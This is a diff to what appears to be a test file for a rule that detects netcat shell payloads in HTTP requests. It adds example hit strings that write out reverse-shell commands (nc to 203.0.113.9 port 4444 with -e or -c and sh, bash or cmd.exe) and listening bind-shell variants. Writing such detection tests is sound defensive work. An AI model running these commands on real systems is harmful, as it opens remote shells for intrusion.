@@ -72,6 +72,11 @@ export default defineRule({
     ),
     'GET /a?x=nc.exe+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
     'GET /a?x=nc.traditional+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    ...each(
+      'GET /a?x=nc+203.0.113.9+4444+{} HTTP/1.1',
+      '-e+sh -e+bash -e+cmd.exe -c+/bin/sh -c+sh -c+bash',
+    ),
+    ...each('GET /a?x={}+-lvpe+a+4444 HTTP/1.1', 'nc ncat netcat'),
   ],
   misses: [
     'GET /docs/python/socket.socketpair HTTP/1.1',
